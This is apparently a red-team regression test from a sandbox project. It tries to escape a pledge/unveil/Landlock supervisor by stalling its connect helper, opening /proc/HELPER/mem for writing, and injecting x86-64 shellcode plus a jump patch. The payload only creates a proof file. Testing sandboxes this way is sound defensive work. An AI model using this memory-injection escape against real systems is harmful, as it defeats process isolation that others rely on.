/* SPDX-License-Identifier: ISC */
/*
 * exec_supervisor_helper_mem.c: a connect helper's memory, opened for
 * writing by the supervisor and handed in (issue 46, the supervisor).
 *
 * exec_supervisor_mem.c's way, where the supervisor refuses its own
 * /proc/PID files (sup_loop.c, own_proc_file(): its own pid only).  A
 * blocking unix connect under unveil is made by a helper the supervisor
 * forks (sup_unveil.c, connect_call()): a copy of the supervisor, outside
 * every filter and Landlock domain, which waits in connect() while the
 * listener's backlog is full.  The attacker, in an exec tree, listens in
 * visible/, fills the backlog, connects from a thread, finds the helper
 * (the supervisor's child, by /proc/PID/status), and opens
 * "/proc/HELPER/mem" with O_WRONLY|O_CREAT and mode 04600: the supervisor
 * makes that open itself (sup_make_stripped()) and hands it in.  It
 * writes code over a function the helper never runs (main) and a jump to
 * it over the helper's system call gate (tame__sys: its address is the
 * attacker's, the helper being a fork; an attacker knows its own binary),
 * then accepts: the helper's connect returns, its next call jumps into
 * the code, which makes hidden/escaped.  Root: the helper's /proc files
 * are root's 0600 (undumpable).
 */
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "redteam.h"

extern long tame__sys(long, long, long, long, long, long, long);
int main(int, char **);

/* openat(AT_FDCWD, path, O_WRONLY|O_CREAT, 0644), exit_group(0); path after */
static const unsigned char code[] = {
	0x48, 0xc7, 0xc7, 0x9c, 0xff, 0xff, 0xff,	/* mov $-100, %rdi */
	0x48, 0x8d, 0x35, 0x1b, 0x00, 0x00, 0x00,	/* lea path(%rip), %rsi */
	0xba, 0x41, 0x00, 0x00, 0x00,			/* mov $0x41, %edx */
	0x41, 0xba, 0xa4, 0x01, 0x00, 0x00,		/* mov $0644, %r10d */
	0xb8, 0x01, 0x01, 0x00, 0x00, 0x0f, 0x05,	/* openat */
	0x31, 0xff, 0xb8, 0xe7, 0x00, 0x00, 0x00, 0x0f, 0x05,	/* exit_group */
};

static struct sockaddr_un sun = { AF_UNIX, "" };

static void *
blocker(void *arg)
{
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	(void)arg;
	connect(s, (struct sockaddr *)&sun, sizeof(sun));
	return NULL;
}

/* a process named name whose parent is ppid, or 0 */
static int
find(const char *name, int ppid)
{
	char path[64], buf[2048], *p;
	struct dirent *e;
	DIR *d;
	int pid, fd, n, found = 0;

	if ((d = opendir("/proc")) == NULL)
		return 0;
	while (!found && (e = readdir(d)) != NULL) {
		if ((pid = atoi(e->d_name)) <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/status", pid);
		if ((fd = open(path, O_RDONLY)) == -1)
			continue;
		n = (int)read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n <= 0)
			continue;
		buf[n] = '\0';
		if (strncmp(buf + 6, name, strlen(name)) == 0 &&
		    (p = strstr(buf, "\nPPid:")) != NULL &&
		    atoi(p + 6) == ppid)
			found = pid;
	}
	closedir(d);
	return found;
}

static int
attack(void *arg)
{
	unsigned char buf[sizeof(code) + PATH_MAX], jmp[5] = { 0xe9 };
	const char *proof = rt_path("hidden/escaped");
	char mem[64];
	pthread_t t;
	int32_t rel;
	int l, c, i, sup, helper;
	long fd;

	(void)arg;
	rt_unveil(rt_path("visible"), "rwc");
	rt_unveil("/proc", "r");
	rt_pledge("stdio rpath wpath cpath unix exec", NULL);
	if ((l = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0)) == -1 ||
	    bind(l, (struct sockaddr *)&sun, sizeof(sun)) == -1 ||
	    listen(l, 0) == -1)
		return RT_SETUP;
	for (i = 0; i < 3; i++) {	/* the backlog, full */
		c = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
		connect(c, (struct sockaddr *)&sun, sizeof(sun));
	}
	pthread_create(&t, NULL, blocker, NULL);
	sleep(1);
	if ((sup = find("tame-supervisor", getpid())) == 0 ||
	    (helper = find("tame-supervisor", sup)) == 0)
		return 10;		/* no helper to be found */
	snprintf(mem, sizeof(mem), "/proc/%d/mem", helper);
	if ((fd = open(mem, O_WRONLY | O_CREAT, 04600)) < 0)
		return 11;
	rt_sh->ret = helper;
	memcpy(buf, code, sizeof(code));
	memcpy(buf + sizeof(code), proof, strlen(proof) + 1);
	rel = (int32_t)((intptr_t)(uintptr_t)main -
	    (intptr_t)((uintptr_t)tame__sys + 5));
	memcpy(jmp + 1, &rel, sizeof(rel));
	if (pwrite((int)fd, buf, sizeof(code) + strlen(proof) + 1,
	    (off_t)(uintptr_t)main) < 0 || pwrite((int)fd, jmp, sizeof(jmp),
	    (off_t)(uintptr_t)tame__sys) < 0)
		return 12;
	for (i = 0; i < 4; i++)		/* the helper's connect returns */
		close(accept4(l, NULL, NULL, SOCK_CLOEXEC));
	sleep(1);
	return 0;
}

int
main(int argc, char **argv)
{
	struct rt_kid k;
	int tamed = 1;

	rt_init(argc, argv);
#if !defined(__x86_64__)
	rt_na("the code is x86-64's");
	return rt_finish();
#endif
	if (!rt_is_root()) {
		rt_na("not root: an undumpable helper's /proc/PID/mem is root's "
		    "0600");
		return rt_finish();
	}
	if (!rt_need_landlock())
		return rt_finish();
	rt_two_dirs();
	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s",
	    rt_path("visible/sock"));
	rt_spawn(&k, attack, &tamed);
	rt_reap(&k);
	rt_check(k.status);
	usleep(300000);
	if (rt_exists(rt_path("hidden/escaped")))
		rt_escaped("unveil(\"visible\", \"rwc\"), pledge(\"stdio rpath "
		    "wpath cpath unix exec\"): the supervisor's connect helper "
		    "%ld came in writable; code written there ran outside the "
		    "sandbox and made hidden/escaped", rt_sh->ret);
	else
		rt_held("the connect helper's memory: %s", rt_how(k.status));
	return rt_finish();
}
